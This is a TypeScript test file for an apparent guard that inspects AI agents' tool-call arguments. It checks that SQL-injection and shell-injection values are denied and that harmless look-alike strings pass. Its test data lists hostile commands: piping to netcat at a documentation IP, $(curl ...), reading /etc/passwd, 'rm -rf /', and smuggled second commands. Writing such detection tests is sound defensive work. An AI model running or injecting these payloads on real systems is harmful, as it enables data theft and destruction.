import { type Facts, inspect, type InspectPlatform, type ServerManifest } from '@aegis/core';
import { beforeAll, describe, expect, it } from 'vitest';
import { createInspectPlatform } from '../../src/inspect/platform.ts';

let platform: InspectPlatform;

beforeAll(async () => {
  platform = await createInspectPlatform({
    baseDir: '/srv',
    homeDir: '/home/agent',
    dialects: [],
    shell: true,
  });
});

const server: ServerManifest = {
  server: 's',
  tools: new Map([
    [
      'find',
      {
        name: 'find',
        capabilities: ['db.read'],
        args: new Map([['name', { kind: 'sql-value' }]]),
        requires: [],
      },
    ],
    [
      'ping',
      {
        name: 'ping',
        capabilities: ['exec'],
        args: new Map([['host', { kind: 'shell-value' }]]),
        requires: [],
      },
    ],
  ]),
  receipts: [],
  clientRequests: new Set(),
  protectedTables: [],
};

function factsOf(name: 'find' | 'ping', args: Readonly<Record<string, string | number>>): Facts {
  const request = {
    id: 'call_1',
    subject: { tenant: 't', agent: 'a', user: 'a', session: 's' },
    action: { method: 'tools/call', door: 'mcp-stdio' },
    resource: { kind: 'tool', server: 's', name },
    args,
    nowMs: 0,
  } as const;
  return inspect({ request, server, platform });
}

describe('a value that the tool puts into a statement of its own', () => {
  it('denies when it goes on as a statement', () => {
    const [finding] = factsOf('find', { name: "' or 1=1 --" }).findings;
    expect(finding).toMatchObject({ id: 'sql.injection', at: '/name', denies: 'GUARD_SQL' });
    expect(factsOf('find', { name: "O'Brien" }).findings).toEqual([]);
    expect(factsOf('find', { name: 7 }).findings).toEqual([]);
  });

  it('is found and denies nothing where nobody says what the argument is', () => {
    const [finding] = factsOf('find', { other: "' or 1=1 --" }).findings;
    expect(finding).toMatchObject({ id: 'sql.injection', at: '/other', severity: 'medium' });
    expect(finding?.denies).toBeUndefined();
    expect(factsOf('ping', { other: "' or 1=1 --" }).findings).toEqual([]);
  });
});

describe('a value that the tool puts into a command of its own', () => {
  it.each([
    'example.com; id',
    'example.com && cat /etc/passwd',
    'example.com | nc 192.0.2.1 80',
    '$(curl http://192.0.2.1)',
    '`id`',
    "'; rm -rf / #",
    '"; rm -rf / #',
    'x\nwhoami',
    'x%0awhoami',
    'x > /tmp/y',
    'x & whoami',
    '<(cat /etc/passwd)',
    'x;${IFS}id',
    '|| ping -c 10 127.0.0.1',
    '&& phpinfo()',
    'dir C:\\Users',
    'FOR /F %a IN (text) DO whoami',
    'if exist C:\\x.sys (cmd)',
    'x" > shell.php',
    '; reg add HKLM',
    'x; $(echo id)',
    "x' || sleep 5 #",
    'a || dir C:\\',
    'x; /tmp/run',
    'x;if true; then id; fi',
    "system('id')",
    'cat /etc/passwd',
  ])('denies when it goes on as a command: %j', (host) => {
    const [finding] = factsOf('ping', { host }).findings;
    expect(finding).toMatchObject({ id: 'shell.injection', at: '/host', denies: 'GUARD_SHELL' });
  });

  it.each([
    'example.com',
    '192.0.2.1',
    'Tom & Jerry',
    'my file (1).txt',
    "don't stop",
    'a; b',
    '5 > 3',
    'costs $5',
    'C:\\Users\\me',
    'R&D',
    'who is there?',
    'time flies like an arrow',
    'see `notes` below',
    '<b>bold</b>',
    'https://example.com/?a=1&b=2',
    '- a list item',
    '50% off | today only',
  ])('is an argument: %j', (host) => {
    expect(factsOf('ping', { host }).findings).toEqual([]);
  });
});
